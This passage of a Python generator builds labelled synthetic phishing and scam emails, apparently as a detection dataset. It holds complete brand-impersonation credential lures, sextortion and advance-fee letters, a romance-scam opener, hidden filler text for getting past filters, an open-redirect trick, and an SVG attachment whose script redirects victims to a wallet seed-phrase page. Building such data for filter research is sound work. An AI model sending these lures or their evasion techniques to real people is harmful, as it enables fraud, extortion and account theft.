         frm=addr("Yahoo Mail Team", "office@grahamplumbingsupply.com"), to="undisclosed-recipients:;",
         subj="Account Verification Required",
         body=alt(plain, html, bnd("next", n)), mf="office@grahamplumbingsupply.com", ip="68.178.252.102",
         helo="p3plsmtp14-03.prod.phx3.secureserver.net",
         hops=[f"Received: from p3plgemwbe14-04.prod.phx3.secureserver.net ([10.252.164.30])\n\tby :SMTPAUTH: with ESMTPSA\n\tid NfrhoPZ9d{alnum(n, 8)}; Tue, 16 Aug 2022 12:31:01 -0700"],
         mid=f"<20220816123100.{hx(n, 8)}.{hx(n + 'x', 32)}.0@email.secureserver.net>",
         extra=["X-Sender: office@grahamplumbingsupply.com", "User-Agent: Workspace Webmail 6.12.12"])

    # 32 --------------------------------------------------------------- Orange messagerie pleine, OVH compromised, 000webhost
    n = "orange-messagerie-pleine-ovh"
    t = when(2022, 12, 13, 15, 44, 7)
    url = "https://orange-messagerie-fr.000webhostapp.com/connexion/"
    html = html_doc(card(
        row('<table><tr><td style="background:#ff7900;width:60px;height:60px;text-align:center"><font color="#fff" size="4" face="Arial"><b>orange</b></font></td></tr></table>', "20px 32px 0")
        + row('<p>Bonjour,</p><p>Votre boîte de messagerie Orange a atteint <b>98 %</b> de sa capacité. Les nouveaux messages ne pourront plus être reçus '
              'et certains messages risquent d\'être supprimés.</p><p>Libérez de l\'espace gratuitement en vous identifiant ci-dessous :</p>')
        + row(button(url, "Accéder à ma messagerie", "#ff7900", "#000000"), "6px 32px 24px")
        + row('<p style="font-size:11px;color:#777">Orange SA - Ce message vous est envoyé automatiquement.</p>')), lang="fr")
    mail(n, "phishing", "Orange webmail 'mailbox 98% full' lure sent from a compromised gîte's OVH mailbox (SPF/DKIM pass), credential page on 000webhost.",
         prov="orange", rcpt=R_ORA, t=t, tz=PARIS,
         frm=addr("Messagerie Orange", "contact@gite-les-tilleuls.fr"), subj="Votre messagerie est presque pleine",
         body=html_only(html), mf="contact@gite-les-tilleuls.fr", ip="46.105.41.16", helo="mo582.mail-out.ovh.net", rdns="mo582.mail-out.ovh.net",
         dkim=[("gite-les-tilleuls.fr", "ovhmo4226614-selector1", "pass")],
         hops=[f"Received: from mxplan6.mail.ovh.net (unknown [10.109.143.211])\n\tby mo582.mail-out.ovh.net (Postfix) with ESMTPS id 4NWXg71k2cz1RyH\n\tfor <{R_ORA}>; {fmt(t - timedelta(seconds=1), UTC)}",
               f"Received: from DAG3EX1.mxp6.local (172.16.2.21) by DAG3EX1.mxp6.local\n (172.16.2.21) with Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.1.2507.16; {fmt(t - timedelta(seconds=2), PARIS)}"],
         mid=f"<{uuid(n)}@DAG3EX1.mxp6.local>",
         extra=[f"X-Ovh-Tracer-Id: {num(n, 10**18, 9 * 10**18)}", "X-VR-SPAMSTATE: OK"])

    # 33 --------------------------------------------------------------- Free facture impayée
    n = "free-facture-impayee-redirect"
    t = when(2023, 10, 3, 10, 20, 51)
    target = "https://free-espace-abonne.com/reglement"
    url = "https://www.leboncoin-immo-partenaires.fr/redirect.php?url=" + base64.b64encode(target.encode()).decode()
    html = html_doc(card(
        row('<p style="font-size:28px;color:#cd1e25;font-family:Arial;margin:0"><b>free</b></p>', "20px 32px 0")
        + row('<p>Cher(e) abonné(e),</p><p>Le prélèvement de votre facture Freebox du mois de septembre (<b>39,99 €</b>) a été rejeté par votre banque.</p>'
              '<p>Afin d\'éviter la suspension de vos services (Internet, TV, téléphone) sous 72h, merci de régulariser votre situation par carte bancaire.</p>')
        + row(button(url, "Régler ma facture", "#cd1e25"), "6px 32px 24px")
        + row('<p style="font-size:11px;color:#888">Free - Service Abonnés</p>')), lang="fr")
    mail(n, "phishing", "Free 'direct debit rejected, pay by card within 72h' lure routed through an open redirect on a third-party French site (base64 target), unsigned sender with SPF fail.",
         prov="free", rcpt=R_FREE, t=t, tz=PARIS,
         frm=addr("Free", "facturation@free-espaceabonne.com"), subj="Échec de prélèvement - facture Freebox de septembre",
         body=html_only(html), mf="facturation@free-espaceabonne.com", ip="176.97.210.41", helo="free-espaceabonne.com",
         spf="fail", mid=mid_hex(n, "free-espaceabonne.com", 24), subj_mode="Q")

    # 34 --------------------------------------------------------------- iCloud storage full, GCS bucket
    n = "icloud-storage-full-gcs"
    t = when(2025, 5, 7, 16, 33, 28)
    url = "https://storage.googleapis.com/icloud-plus-upgrade-4f2a/index.html#" + hx(n, 10)
    html = html_doc(hidden("Your photos and videos will be deleted. Upgrade iCloud+ now for free.") + card(
        row(f'<a href="{url}"><img src="https://storage.googleapis.com/icloud-plus-upgrade-4f2a/banner.jpg" width="536" alt="iCloud" style="display:block;width:100%;border:0"></a>', "0")
        + row('<p style="font-size:20px"><b>Your iCloud storage is full.</b></p><p>Your photos, videos, files and backups will no longer be uploaded and '
              '<b>will be deleted</b> on 05/09/2025. As a loyal customer you are eligible for <b>50 GB of extra storage free</b> with your Apple ID.</p>')
        + row(button(url, "Get 50 GB Free", "#0071e3"), "6px 32px 24px")
        + row('<p style="font-size:10px;color:#999">To unsubscribe write to: 1680 Route 23 N, Wayne, NJ 07470</p>' + hidden("lawn care schedule fertilizer spring aeration mower blade"))), lang="en")
    mail(n, "phishing", "iCloud 'storage full, photos will be deleted, get 50 GB free' affiliate-style scam: image and button to a Google Cloud Storage bucket page, hidden filler, postal unsubscribe line.",
         prov="gmail", rcpt=R_GM2, t=t, tz=UTC,
         frm=addr("iCloud", "storage@newsbrightpath.click"), subj="Your iCloud storage is full - photos will be deleted",
         body=html_only(html), mf="bounce-7781@newsbrightpath.click", ip="23.94.177.58", helo="mx4.newsbrightpath.click", rdns="mx4.newsbrightpath.click",
         dkim=[("newsbrightpath.click", "dkim", "pass")], dmarc=("pass", "NONE"), mid=mid_hex(n, "newsbrightpath.click", 30),
         extra=["List-Unsubscribe: <mailto:unsub-7781@newsbrightpath.click>"])

    # 35 --------------------------------------------------------------- Apple ID FR lookalike
    n = "apple-id-verrouille-fr"
    t = when(2023, 3, 21, 20, 14, 9)
    url = "https://apple-assistance-id.com/fr/deverrouiller/?session=" + hx(n, 20)
    plain = ("Cher client,\n\nVotre identifiant Apple a été verrouillé pour des raisons de sécurité : une connexion inhabituelle a été détectée depuis "
             "un appareil inconnu (iPhone 13, Lagos, Nigeria).\n\nPour déverrouiller votre compte, veuillez confirmer vos informations :\n" + url + "\n\n"
             "Si vous ne confirmez pas vos informations sous 24 heures, votre identifiant Apple sera désactivé.\n\nCordialement,\nAssistance Apple\n")
    html = ('<html><body style="font-family:-apple-system,Helvetica,Arial;font-size:14px;color:#1d1d1f"><div style="max-width:580px;margin:auto">'
            '<p style="font-size:36px;margin:10px 0">&#63743;</p><p>Cher client,</p><p>Votre identifiant Apple a été <b>verrouillé</b> pour des raisons de sécurité : '
            'une connexion inhabituelle a été détectée depuis un appareil inconnu (iPhone 13, Lagos, Nigeria).</p>'
            f'<p><a href="{url}" style="color:#0070c9">Déverrouiller mon compte &gt;</a></p>'
            '<p>Si vous ne confirmez pas vos informations sous 24 heures, votre identifiant Apple sera désactivé.</p>'
            '<p>Cordialement,<br>Assistance Apple</p></div></body></html>\n')
    mail(n, "phishing", "Apple ID 'locked after unusual sign-in' lure in French from a lookalike assistance domain passing its own SPF/DKIM/DMARC.",
         prov="free", rcpt=R_FREE, t=t, tz=PARIS,
         frm=addr("Apple", "noreply@apple-assistance-id.com"), subj="Votre identifiant Apple a été verrouillé",
         body=alt(plain, html, bnd("apple", n)), mf="noreply@apple-assistance-id.com", ip="185.196.9.150", helo="mail.apple-assistance-id.com",
         rdns="mail.apple-assistance-id.com", dkim=[("apple-assistance-id.com", "s1", "pass")], dmarc=("pass", "NONE"),
         mid=mid_hex(n, "apple-assistance-id.com", 24))

    # 36 --------------------------------------------------------------- Instagram copyright, Netlify
    n = "instagram-copyright-netlify"
    t = when(2023, 6, 28, 11, 9, 44)
    url = "https://meta-appeal-center-2023.netlify.app/instagram/appeal?id=" + str(num(n, 10**9, 10**10))
    html = html_doc(card(
        row('<p style="font-family:Arial;font-size:24px;margin:0"><b>Instagram</b></p>', "20px 32px 0")
        + row('<p>Hi,</p><p>We received a report that your account has violated our copyright laws with a recent post. '
              'If you believe this is a mistake, you must submit an appeal within <b>24 hours</b>, otherwise your account will be permanently disabled.</p>')
        + row(button(url, "Submit Appeal", "#0095f6"), "6px 32px 24px")
        + row('<p style="font-size:11px;color:#8e8e8e">from<br>Meta<br>© Instagram. Meta Platforms, Inc., 1601 Willow Road, Menlo Park, CA 94025</p>')), lang="en")
    mail(n, "phishing", "Instagram 'copyright violation, appeal in 24h' account-takeover lure with a Meta footer, landing on Netlify.",
         prov="gmail", rcpt=R_GM2, t=t, tz=UTC,
         frm=addr("Instagram", "no-reply@copyright-instagram-help.com"), subj="Copyright infringement notice on your Instagram account",
         body=html_only(html), mf="no-reply@copyright-instagram-help.com", ip="172.86.114.29", helo="copyright-instagram-help.com",
         spf="pass", mid=mid_hex(n, "copyright-instagram-help.com", 28))

    # 37 --------------------------------------------------------------- crypto giveaway
    n = "binance-btc-reward-giveaway"
    t = when(2022, 6, 14, 2, 44, 17)
    url = "https://binance-reward-claims.com/claim?ref=BN" + str(num(n, 100000, 999999))
    html = html_doc(card(
        row('<p style="font-family:Arial;font-size:22px;color:#f0b90b;margin:0;background:#181a20;padding:14px"><b>BINANCE</b></p>', "0")
        + row('<h2>Congratulations! You received 0.32 BTC</h2><p>As part of our <b>5th Anniversary Airdrop</b>, your email was randomly selected '
              'to receive <b>0.32 BTC (~$7,180)</b>.</p><p>To claim, connect your wallet or log in to your Binance account and complete a small '
              'network verification deposit of 0.005 BTC. Rewards not claimed in 48 hours are returned to the pool.</p>')
        + row(button(url, "CLAIM REWARD", "#f0b90b", "#181a20"), "6px 32px 24px")), lang="en")
    mail(n, "phishing", "Binance 'you received 0.32 BTC airdrop' crypto giveaway asking for a verification deposit and wallet login, from a throw-away domain without DKIM.",
         prov="yahoo", rcpt=R_YH, t=t, tz=UTC,
         frm=addr("Binance Rewards", "rewards@binance-airdrop.live"), subj="Congratulations! 0.32 BTC has been credited to you",
         body=html_only(html), mf="rewards@binance-airdrop.live", ip="45.88.90.133", helo="binance-airdrop.live", spf="pass",
         mid=mid_hex(n, "binance-airdrop.live", 20))

    # 38 --------------------------------------------------------------- MetaMask SVG attachment
    n = "metamask-kyc-svg-attachment"
    t = when(2024, 12, 3, 9, 4, 56)
    target = "https://metamask-wallet-verify.pages.dev/?k=" + hx(n, 12)
    svg = ('<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="600" height="400" viewBox="0 0 600 400">\n'
           '<rect width="600" height="400" fill="#f7f3ee"/><text x="40" y="80" font-family="Arial" font-size="28" fill="#e2761b">MetaMask</text>\n'
           '<text x="40" y="140" font-family="Arial" font-size="16">Loading secure verification...</text>\n'
           '<script type="text/javascript"><![CDATA[\n'
           f'var a="{base64.b64encode(target.encode()).decode()}";var e="{base64.b64encode(R_GM2.encode()).decode()}";\n'
           'setTimeout(function(){window.location.href=atob(a)+"&e="+e;},800);\n]]></script>\n</svg>\n')
    plain = ("Dear MetaMask user,\n\nDue to new EU/US KYC regulations (MiCA), all wallets must be verified before 12/06/2024. "
             "Unverified wallets will be restricted from sending and receiving funds.\n\nPlease open the attached verification file to complete the process.\n\n"
             "MetaMask Support\nConsensys Software Inc.\n")
    body = Multi("mixed", bnd("next", n), [text(plain), att("image/svg+xml", "MetaMask_Verification_1203.svg", svg.encode())])
    mail(n, "phishing", "MetaMask 'mandatory wallet KYC' lure with an SVG attachment whose script redirects to a seed-phrase page with the victim's address; no link in the body.",
         prov="gmail", rcpt=R_GM2, t=t, tz=UTC,
         frm=addr("MetaMask Support", "support@metamask-kyc-secure.com"), subj="Action Required: Verify your MetaMask wallet before 12/06",
         body=body, mf="support@metamask-kyc-secure.com", ip="91.215.85.209", helo="mail.metamask-kyc-secure.com", rdns="mail.metamask-kyc-secure.com",
         dkim=[("metamask-kyc-secure.com", "mail", "pass")], dmarc=("pass", "NONE"), mid=mid_hex(n, "metamask-kyc-secure.com", 24))

    # 39 --------------------------------------------------------------- sextortion EN spoofed from self
    n = "sextortion-en-self-spoof-btc"
    t = when(2023, 12, 11, 4, 17, 33)
    btc = "bc1q" + "".join(c for c in hx(n + "btc", 60) if c not in "1bio")[:38]
    plain = (f"Hello!\n\nI am a hacker who has access to your operating system. I also have full access to your account {R_OUT}.\n"
             "As you can see, I sent you this email from your own account.\n\n"
             "I have been watching you for a few months now. Your device was infected with my malware while you were visiting adult websites. "
             "The malware gave me full access to your camera and microphone. I made a video showing you satisfying yourself in the left half "
             "of the screen, and in the right half you see the video you were watching.\n\n"
             "With one click I can send this video to all your contacts, email and social networks.\n\n"
             "If you want to prevent this, transfer the amount of $1450 to my bitcoin address (if you do not know how, search Google: 'buy bitcoin').\n\n"
             f"My bitcoin address (BTC Wallet) is: {btc}\n\n"
             "After receiving the payment I will delete the video and you will never hear from me again. I give you 50 hours (more than 2 days) to pay. "
             "I have a notification for reading this letter, and the timer will start when you see this letter.\n\n"
             "Filing a complaint somewhere does not make sense because this email cannot be traced like my bitcoin address.\nI do not make any mistakes.\n\n"
             "If I find that you have shared this message with someone else, the video will be immediately distributed.\n\nBest regards!\n")
    mail(n, "phishing", "Sextortion in English 'sent from your own account', From and envelope forged to the victim's address (SPF softfail, DMARC fail), bitcoin address, no link.",
         prov="outlook", rcpt=R_OUT, t=t, tz=ZoneInfo("Asia/Kolkata"),
         frm=R_OUT, to=R_OUT, subj="Your account has been hacked! You need to unlock it.",
         body=text(plain, "plain", "7bit", "us-ascii"), mf=R_OUT, ip="177.94.213.46", helo="[177.94.213.46]",
         spf="softfail", dmarc=("fail", "NONE"), mid=f"<{hx(n, 12).upper()}{hx(n + 'x', 8).upper()}@{R_OUT.split('@')[0]}>",
         extra=["X-Priority: 3", "X-MSMail-Priority: Normal", "X-Mailer: Microsoft Outlook Express 6.00.2900.2180"])

    # 40 --------------------------------------------------------------- sextortion PT spoofed from self
    n = "sextorsao-pt-self-spoof-btc"
    t = when(2024, 5, 8, 1, 2, 44)
    btc = "bc1q" + "".join(c for c in hx(n + "btc", 60) if c not in "1bio")[:38]
    plain = ("Olá!\n\nInfelizmente, tenho más notícias para você.\nHá alguns meses, obtive acesso aos dispositivos que você usa para navegar na internet. "
             "Posteriormente, acompanhei suas atividades on-line.\n\nComo você pode ver, enviei este e-mail da sua própria conta.\n\n"
             "Consegui gravar vídeos de você se masturbando em sites adultos pela sua câmera. Tenho também a lista completa dos seus contatos, "
             "redes sociais e conversas.\n\nSe você quer que eu apague tudo, transfira R$ 4.500 (em Bitcoin) para a carteira abaixo:\n\n"
             f"{btc}\n\nVocê tem 48 horas a partir da abertura deste e-mail. Recebo uma notificação assim que você ler esta mensagem.\n"
             "Não adianta responder nem procurar a polícia. Se eu perceber qualquer tentativa, o vídeo será enviado para todos os seus contatos.\n\n"
             "Pesquise no Google \"como comprar bitcoin\" se não souber.\n")
    mail(n, "phishing", "Sextortion in Portuguese forged as coming from the victim's own Terra address (SPF fail), Bitcoin wallet, plain text, no link.",
         prov="terra", rcpt=R_TER, t=t, tz=ZoneInfo("Asia/Ho_Chi_Minh"),
         frm=R_TER, to=R_TER, subj="Recebi acesso ao seu dispositivo - leia com atenção",
         body=text(plain, "plain", "base64", "utf-8"), mf=R_TER, ip="113.161.84.208", helo="static.vnpt.vn", rdns="static.vnpt.vn",
         spf="fail", mid=f"<{hx(n, 10)}${hx(n + 'x', 6)}@terra.com.br>")

    # 41 --------------------------------------------------------------- Costco survey
    n = "costco-membership-reward-survey"
    t = when(2023, 7, 25, 23, 51, 7)
    url = "https://storage.googleapis.com/costco-rewards-0723/offer.html?sid=" + hx(n, 8)
    html = ("<html><body><center>" + hidden("Congratulations! You've been selected to receive an exclusive Costco reward.") +
            f"<a href='{url}'><img src='https://storage.googleapis.com/costco-rewards-0723/costco-main.jpg' width='600' border='0' alt='COSTCO - Claim your reward'></a><br>"
            f"<p style='font-family:Arial;font-size:16px'><a href='{url}'>Complete our 30-second survey and claim your <b>Dyson V15</b> reward</a></p>"
            "<p style='font-size:10px;color:#999;font-family:Arial'>If you no longer wish to receive these emails, you may unsubscribe by writing to 2810 S Hwy 77, Lynn Haven FL 32444</p>"
            + hidden("The team plays its next home game on Saturday. Lemon zest adds a bright flavor to grilled fish. Remember to check tire pressure monthly.")
            + "</center></body></html>\n")
    mail(n, "phishing", "Costco 'member survey, claim a Dyson' reward scam: a single clickable image hosted on Google Cloud Storage, hidden filler sentences, postal unsubscribe, random sending domain.",
         prov="yahoo", rcpt=R_YH, t=t, tz=UTC,
         frm=addr("Costco Member Rewards", "reply@tryvanelluxe.us"), subj="Debbie, your Costco reward is waiting (ref #38814)",
         body=html_only(html), mf="bounce@tryvanelluxe.us", ip="104.168.135.77", helo="mta2.tryvanelluxe.us",
         dkim=[("tryvanelluxe.us", "mta", "pass")], mid=mid_hex(n, "tryvanelluxe.us", 26))

    # 42 --------------------------------------------------------------- Norton callback invoice PDF
    n = "norton-renewal-callback-invoice"
    t = when(2024, 4, 2, 15, 27, 40)
    phone = "+1 (855) 742-0198"
    pdfb = files.pdf(["NortonLifeLock - Invoice", "", "Invoice No: NLK-88420193      Date: 04/02/2024", "Customer ID: 5517-2201",
                      "Product: Norton 360 Deluxe - 5 Devices - 3 Years", "Amount charged: $399.99", "Payment method: Auto-Renewal",
                      "", "Your subscription has been renewed automatically.",
                      f"To cancel and request a refund within 24 hours call: {phone}", "Gen Digital Inc."], title="Invoice NLK-88420193")
    html = ('<div style="font-family:Arial;font-size:14px"><p>Dear Customer,</p><p>Thank you for renewing your subscription. '
            'Your account has been charged <b>$399.99</b> for <b>Norton 360 Deluxe (3 Years)</b>. The invoice is attached.</p>'
            f'<p>If you wish to cancel and claim a refund, please contact our billing department within 24 hours at <b>{phone}</b>.</p>'
            '<p>Regards,<br>Billing Team<br>NortonLifeLock</p></div>\n')
    plain = (f"Dear Customer,\n\nThank you for renewing your subscription. Your account has been charged $399.99 for Norton 360 Deluxe (3 Years). "
             f"The invoice is attached.\n\nIf you wish to cancel and claim a refund, please contact our billing department within 24 hours at {phone}.\n\n"
             "Regards,\nBilling Team\nNortonLifeLock\n")
    body = Multi("mixed", bnd("gmail", n), [Multi("alternative", bnd("gmail", n + "a"), [text(plain), text(html, "html")]),
                                            att("application/pdf", "INV_NLK88420193.pdf", pdfb)])
    mail(n, "phishing", "Norton 360 'auto-renewed for $399.99' callback scam from a free Gmail account with a PDF invoice; the only call to action is a phone number.",
         prov="outlook", rcpt=R_OUT, t=t, tz=ZoneInfo("America/Chicago"),
         frm=addr("NortonLifeLock", "emmaline.porter382@gmail.com"), subj="Invoice NLK-88420193 - Subscription renewed",
         body=body, mf="emmaline.porter382@gmail.com", ip="209.85.216.53", helo="mail-pj1-f53.google.com", rdns="mail-pj1-f53.google.com",
         dkim=[("gmail.com", "20230601", "pass")], dmarc=("pass", "NONE"), mid=mid_gmail(n),
         hops=[f"Received: by mail-pj1-f53.google.com with SMTP id 98e67ed59e1d1-2a2d0ca3c92so3185142a91.0\n        for <{R_OUT}>; {fmt(t - timedelta(seconds=1), PT, True)}"],
         order=["From", "Date", "Message-ID", "Subject", "To"])

    # 43 --------------------------------------------------------------- inheritance EN
    n = "inheritance-next-of-kin-en"
    t = when(2022, 4, 19, 9, 40, 22)
    plain = ("Dear Friend,\n\nI am Barrister Edwin Chambers, a personal attorney to late Mr. Michael Brennan, a national of your country who worked as an "
             "oil consultant with Shell in Nigeria. My client, his wife and only daughter died in a car accident along Sagamu/Lagos Express Road.\n\n"
             "Since then I have made several inquiries to locate any of my late client's extended relatives, this has proved unsuccessful. "
             "I decided to contact you because you share the same last name with the deceased.\n\n"
             "He left behind a deposit of US$8.5 Million (Eight Million Five Hundred Thousand United States Dollars) with a finance house here. "
             "The bank has issued me a notice to provide the next of kin or the account will be confiscated.\n\n"
             "I seek your consent to present you as the next of kin so that the proceeds can be paid to you. We will share 50/50. "
             "All I require is your honest cooperation. This transaction is 100% risk free.\n\n"
             "Please reply to my private email: barr.edwinchambers@gmail.com with your full name, phone number and address.\n\n"
             "Best regards,\nBarr. Edwin Chambers (Esq.)\n")
    mail(n, "phishing", "Advance-fee 'next of kin' inheritance letter matched to the recipient's surname, sent from a mail.com address with the reply steered to a Gmail account.",
         prov="gmail", rcpt=R_GM2, t=t, tz=LAGOS,
         frm=addr("Barr. Edwin Chambers", "edwin.chambers@lawyer.com"), reply_to="barr.edwinchambers@gmail.com",
         subj="Re: Inheritance claim of your late relative", to=R_GM2,
         body=text(plain, "plain", "quoted-printable", "utf-8"), mf="edwin.chambers@lawyer.com", ip="74.208.4.201", helo="mout.perfora.net", rdns="mout.perfora.net",
         dkim=[("lawyer.com", "s1089575", "pass")], dmarc=("pass", "NONE"),
         hops=[f"Received: from [102.89.47.112] ([102.89.47.112]) by web-mail.mail.com\n (3c-app-mailcom-lxa09.server.lan [10.76.45.10]) (via HTTP); {fmt(t - timedelta(seconds=2), PARIS)}"],
         mid=f"<trinity-{uuid(n)}-{ts(t) * 1000 - 2000}@3c-app-mailcom-lxa09>",
         extra=["Importance: normal", "Sensitivity: Normal", "X-Priority: 3", "X-Provags-ID: V03:K1:" + b64s(n + "pv", 60), "UI-OutboundReport: notjunk:1;M01:P0:" + b64s(n + "ui", 20)])

    # 44 --------------------------------------------------------------- héritage FR
    n = "heritage-notaire-fr-gmx"
    t = when(2025, 2, 11, 14, 3, 15)
    plain = ("Bonjour,\n\nJe suis Maître Laurent Dupuis, notaire à Lomé (Togo). Je me permets de vous contacter au sujet de la succession de feu "
             "M. Henri Lefebvre, ressortissant français décédé sans héritier connu, qui porte le même nom de famille que vous.\n\n"
             "Le défunt a laissé un avoir de 4 850 000 € (quatre millions huit cent cinquante mille euros) déposé auprès d'une banque de la place. "
             "Faute d'héritier, ces fonds seront versés au Trésor public dans un délai de 30 jours.\n\n"
             "Je vous propose de vous présenter comme héritier légitime. Toutes les démarches juridiques seront assurées par mon étude. "
             "Les seuls frais à votre charge seront les frais d'enregistrement du certificat d'hérédité.\n\n"
             "Merci de me répondre en toute confidentialité avec vos nom, prénom, adresse et numéro de téléphone.\n\n"
             "Bien cordialement,\nMe Laurent Dupuis\nÉtude Dupuis & Associés\n")
    mail(n, "phishing", "French inheritance advance-fee letter from a 'notaire in Lomé' on GMX, reply steered to another free mailbox, surname-matched, no link.",
         prov="orange", rcpt=R_ORA, t=t, tz=LAGOS,
         frm=addr("Me Laurent Dupuis", "etude.dupuis.notaire@gmx.fr"), reply_to="maitre.l.dupuis@outlook.fr",
         subj="Succession de feu M. Henri Lefebvre - confidentiel",
         body=text(plain, "plain", "quoted-printable", "utf-8"), mf="etude.dupuis.notaire@gmx.fr", ip="212.227.17.20", helo="mout.gmx.net", rdns="mout.gmx.net",
         dkim=[("gmx.fr", "s31663417", "pass")], dmarc=("pass", "QUARANTINE"),
         hops=[f"Received: from [102.64.219.7] ([102.64.219.7]) by web-mail.gmx.net\n (3c-app-gmx-bs41.server.lan [172.19.170.93]) (via HTTP); {fmt(t - timedelta(seconds=2), PARIS)}"],
         mid=f"<trinity-{uuid(n)}-{ts(t) * 1000 - 2000}@3c-app-gmx-bs41>",
         extra=["Importance: normal", "Sensitivity: Normal", "X-Priority: 3", "X-Provags-ID: V03:K1:" + b64s(n + "pv", 60)])

    # 45 --------------------------------------------------------------- romance
    n = "romance-army-officer-gmail"
    t = when(2023, 9, 19, 18, 22, 57)
    plain = ("Hello Debbie,\n\nI hope this mail finds you well. Please forgive my boldness in writing to you. My name is Sgt. Michael Reynolds, "
             "I am a US Army medical officer currently on a peacekeeping mission in Syria. I came across your profile on a widows support group "
             "and something in your smile told me you have a kind heart.\n\nI lost my wife to cancer four years ago and I have been raising my "
             "daughter Emily (11) alone, she is in a boarding school in Texas. I am 56 years old and I will be retiring in a few months. "
             "I am looking for an honest woman to spend the rest of my life with.\n\nI am attaching a picture of me so you know who you are talking to. "
             "Please write me back and tell me about yourself. We are not allowed to use phones here so email is the best way, "
             "or we can chat on Google Chat or Telegram.\n\nGod bless you,\nMichael\n")
    body = Multi("mixed", bnd("gmail", n), [Multi("alternative", bnd("gmail", n + "a"), [text(plain),
                 text('<div dir="ltr">' + plain.replace("\n\n", "<br><br>").replace("\n", "<br>") + "</div>\n", "html")]),
                 att("image/jpeg", "IMG-20230917-WA0012.jpg", files.photo_jpeg(45))])
    mail(n, "phishing", "Romance scam opener from a 'US Army officer on mission' Gmail account with a stolen photo, moving the victim to Telegram; no link, no ask yet.",
         prov="yahoo", rcpt=R_YH, t=t, tz=LAGOS,
         frm=addr("Michael Reynolds", "sgt.michaelreynolds56@gmail.com"), subj="Hello from a lonely soldier",
         body=body, mf="sgt.michaelreynolds56@gmail.com", ip="209.85.208.176", helo="mail-lj1-f176.google.com",
         dkim=[("gmail.com", "20230601", "pass")], dmarc=("pass", "NONE"), mid=mid_gmail(n),
         order=["From", "Date", "Message-ID", "Subject", "To"])

    # 46 --------------------------------------------------------------- Google Calendar invite abuse
    n = "google-calendar-pix-invite"
    t = when(2024, 9, 17, 11, 2, 39)
    org = "comprovante.pix.recebido.br@gmail.com"
    url = "https://estorno-pix-confirmacao.online/receber?id=PIX" + str(num(n, 10**7, 10**8))
    desc = ("Você recebeu um PIX de R$ 1.870,00 de MARIA APARECIDA SOUZA.\\n\\nO valor está retido aguardando confirmação do recebedor. "
            "Confirme o recebimento em até 2 horas pelo link: " + url + "\\n\\nBanco Central - Sistema Pix")
    uid = hx(n, 26) + "@google.com"
    ics = ("BEGIN:VCALENDAR\r\nPRODID:-//Google Inc//Google Calendar 70.9054//EN\r\nVERSION:2.0\r\nCALSCALE:GREGORIAN\r\nMETHOD:REQUEST\r\n"
           "BEGIN:VEVENT\r\nDTSTART:20240917T130000Z\r\nDTEND:20240917T133000Z\r\nDTSTAMP:20240917T140237Z\r\n"
           f"ORGANIZER;CN=Comprovante Pix:mailto:{org}\r\nUID:{uid}\r\n"
           f"ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=\r\n TRUE;CN={R_GM1};X-NUM-GUESTS=0:mailto:{R_GM1}\r\n"
           "CREATED:20240917T140236Z\r\n")
    # fold the description at 74 octets as Google does
    dline = "DESCRIPTION:" + desc
    folded = []
    while len(dline.encode()) > 74:
        cut = 74
        while len(dline[:cut].encode()) > 74:
            cut -= 1
        folded.append(dline[:cut])
        dline = " " + dline[cut:]
    folded.append(dline)
    ics += "\r\n".join(folded) + "\r\n"
    ics += ("LAST-MODIFIED:20240917T140236Z\r\nLOCATION:\r\nSEQUENCE:0\r\nSTATUS:CONFIRMED\r\n"
            "SUMMARY:Você recebeu um PIX de R$ 1.870\\,00 - Confirme o recebimento\r\nTRANSP:OPAQUE\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
    plain = ("Você recebeu um convite para o seguinte evento.\n\nTítulo: Você recebeu um PIX de R$ 1.870,00 - Confirme o recebimento\n\n"
             "Você recebeu um PIX de R$ 1.870,00 de MARIA APARECIDA SOUZA.\n\nO valor está retido aguardando confirmação do recebedor. "
             f"Confirme o recebimento em até 2 horas pelo link: {url}\n\nBanco Central - Sistema Pix\n\n"
             "Quando: terça-feira, 17 de setembro de 2024 10:00 – 10:30 (Horário Padrão de Brasília)\n\n"
             f"Participantes\n• {org} - organizador\n• {R_GM1}\n\n"
             f"Visualizar todos os detalhes do evento: https://calendar.google.com/calendar/event?action=VIEW&eid={b64s(n + 'eid', 60)}&tok={b64s(n + 'tok', 40)}&ctz=America%2FSao_Paulo&hl=pt_BR&es=0\n\n"
             "Convite do Google Agenda: https://calendar.google.com/calendar/\n\nVocê está recebendo este e-mail porque é participante do evento. "
             "Para não receber mais atualizações desse evento, recuse o evento.\n")
    html = ('<!doctype html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>'
            '<div style="font-family:Roboto,Helvetica,Arial,sans-serif;max-width:600px"><h2 style="font-weight:400">Você recebeu um PIX de R$ 1.870,00 - Confirme o recebimento</h2>'
            '<p>Você recebeu um PIX de R$ 1.870,00 de MARIA APARECIDA SOUZA.<br><br>O valor está retido aguardando confirmação do recebedor. '
            f'Confirme o recebimento em até 2 horas pelo link: <a href="https://www.google.com/url?q={url}&amp;sa=D&amp;source=calendar&amp;usd=2&amp;usg=AOvVaw{alnum(n, 22)}">{url}</a>'
            '<br><br>Banco Central - Sistema Pix</p><p><b>Quando</b><br>terça-feira, 17 de setembro de 2024 10:00 – 10:30 (Horário Padrão de Brasília)</p>'
            f'<p><b>Participantes</b><br>{org} - organizador<br>{R_GM1}</p>'
            f'<p><a href="https://calendar.google.com/calendar/event?action=RESPOND&amp;eid={b64s(n + "eid", 60)}&amp;rst=1&amp;tok={b64s(n + "tok", 40)}">Sim</a> '
            f'· <a href="https://calendar.google.com/calendar/event?action=RESPOND&amp;eid={b64s(n + "eid", 60)}&amp;rst=2&amp;tok={b64s(n + "tok", 40)}">Não</a></p>'
            '<p style="font-size:11px;color:#70757a">Convite do Google Agenda. Você está recebendo este e-mail porque é participante do evento.</p></div></body></html>\n')
    cal = Leaf("text/calendar", ics.encode(), "7bit", '; charset="UTF-8"; method=REQUEST')
    body = Multi("mixed", bnd("gmail", n), [Multi("alternative", bnd("gmail", n + "a"), [text(plain, "plain", "quoted-printable"), text(html, "html"), cal]),
                                            Leaf("application/ics", ics.encode(), "base64", '; name="invite.ics"', 'attachment; filename="invite.ics"')])
